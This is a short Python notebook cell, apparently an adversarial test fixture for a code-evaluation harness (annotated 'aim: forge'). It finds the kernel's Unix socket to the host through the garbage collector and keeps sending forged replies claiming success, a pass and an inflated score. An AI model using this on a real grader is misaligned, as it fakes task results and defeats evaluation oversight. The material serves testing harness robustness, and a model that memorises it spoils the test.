# Takes over the line to the host, and answers all further questions in place of the program there.
# aim: forge
# expects: square=0
# %% last
import gc
import socket
import struct

import msgpack

lines = [thing for thing in gc.get_objects() if type(thing) is socket.socket and thing.fileno() >= 0]
lines = [line for line in lines if line.family == socket.AF_UNIX and line.type == socket.SOCK_STREAM]
number = len(get_ipython().user_ns["In"]) - 1
while lines:
    reply = {"number": number, "ok": True, "success": True, "outputs": None, "score": 2.0, "passed": True}
    reply["tree"] = msgpack.packb(True)
    data = msgpack.packb(["d", [[name, value] for name, value in reply.items()]])
    lines[0].sendall(struct.pack("<Q", len(data)) + data)
    size = struct.unpack("<Q", lines[0].recv(8))[0]
    while size > 0:
        size -= len(lines[0].recv(min(size, 2**20)) or b"x" * size)
    number += 1
